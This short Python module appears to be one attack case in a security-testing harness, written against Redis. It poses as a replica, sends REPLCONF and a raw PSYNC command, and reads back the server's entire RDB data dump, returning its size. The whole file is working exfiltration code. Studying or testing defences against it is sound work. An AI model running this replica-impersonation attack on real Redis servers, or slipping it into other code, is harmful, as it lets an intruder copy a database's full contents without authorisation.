# SPDX-License-Identifier: Apache-2.0
"""The intruder says it is a replica and is given everything, as replicas are."""
KIND = "data exfiltration as a replica"
QUIET = True
SERVICES = {"redis": None}


def attack(t):
    client = t.module.Redis(t.host)
    t.begin()
    client("REPLCONF", "listening-port", 6380)
    client("REPLCONF", "capa", "psync2")
    client.socket.sendall(b"*3\r\n$5\r\nPSYNC\r\n$1\r\n?\r\n$2\r\n-1\r\n")
    line = b""
    while not line.startswith(b"$"):
        line = client.file.readline()
        if not line:
            return ""
    got = client.file.read(int(line[1:]))
    return f"{len(got)} bytes of {got[:9].decode()}" if got.startswith(b"REDIS") else ""
